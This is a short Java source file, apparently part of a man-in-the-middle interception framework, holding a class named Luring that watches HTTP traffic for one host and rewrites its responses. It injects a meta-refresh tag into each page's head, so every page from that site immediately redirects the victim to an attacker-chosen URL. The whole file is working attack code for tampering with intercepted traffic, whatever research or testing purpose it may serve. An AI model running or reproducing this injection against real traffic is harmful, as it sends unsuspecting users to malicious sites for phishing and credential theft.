package interlope.attack.entry;

import interlope.wire.Bytes;
import interlope.wire.Direction;
import interlope.wire.ExchangeId;
import interlope.wire.http.HttpMessage;
import interlope.wire.http.HttpRequest;
import interlope.wire.http.HttpResponse;
import interlope.wire.http.Lens;
import java.util.HashSet;
import java.util.Set;

/// Makes the pages of one site lead elsewhere, by a top-level navigation.
final class Luring implements Lens {
  private final String host;
  private final String target;
  private final Set<ExchangeId> ofTheHost = new HashSet<>();

  Luring(String host, String target) {
    this.host = host;
    this.target = target;
  }

  @Override
  public HttpMessage open(ExchangeId id, Direction to, HttpMessage message) {
    if (message instanceof HttpRequest request
        && request.headers().first("Host").orElse("").equals(host)) {
      ofTheHost.add(id);
    }
    return message;
  }

  @Override
  public HttpMessage close(ExchangeId id, Direction to, HttpMessage message) {
    return message instanceof HttpResponse page && ofTheHost.contains(id)
        ? page.withBody(
            Bytes.ofText(
                page.body()
                    .text()
                    .replace(
                        "</head>",
                        "<meta http-equiv=\"refresh\" content=\"0; url=%s\"></head>"
                            .formatted(target))))
        : message;
  }
}
